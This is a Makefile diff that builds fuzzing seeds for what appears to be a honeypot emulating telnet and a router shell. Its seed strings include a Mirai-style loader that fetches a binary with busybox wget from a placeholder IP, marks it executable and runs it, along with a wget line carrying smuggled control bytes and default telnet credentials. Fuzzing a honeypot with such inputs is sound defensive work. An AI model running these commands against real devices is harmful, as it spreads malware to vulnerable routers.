@@ -86,6 +86,8 @@ fuzz: $(FUZZ)/build.ninja build
 	@printf '/api/v1/timeseries\0proto\0tcp\0port\0002323\0res\00060' >var/fuzz/seed/fuzz_params/ts
 	@printf '1.0.0.0,1.0.0.255,13335,"Cloudflare, Inc."\n' >var/fuzz/seed/fuzz_text/asn
 	@mkdir -p var/fuzz/seed/fuzz_telnet var/fuzz/seed/fuzz_shell
+	@mkdir -p var/fuzz/seed/fuzz_sink && printf 'jsonl:var/x.jsonl' >var/fuzz/seed/fuzz_sink/spec
+	@printf 'wget http://198.18.0.1/\377x; echo "\\"\001' >var/fuzz/seed/fuzz_sink/text
 	@printf '\377\373\037\377\372\037\000\120\000\030\377\360root\r\nxc3511\r\000' >var/fuzz/seed/fuzz_telnet/naws
 	@printf "Scd /tmp; echo -ne '\\\\x7f\\\\x45' >> upnp; while read i; do echo \$$i; done < /proc/mounts\n/bin/busybox wget http://198.18.0.1/x -O - > d; chmod 777 d; ./d\n(cat .s || cp /bin/echo .s); dd bs=52 count=1 if=.s\n" >var/fuzz/seed/fuzz_shell/loader
 	@cp data/personas/router-mips.persona var/fuzz/seed/fuzz_shell/persona && sed -i '1s/^/P/' var/fuzz/seed/fuzz_shell/persona
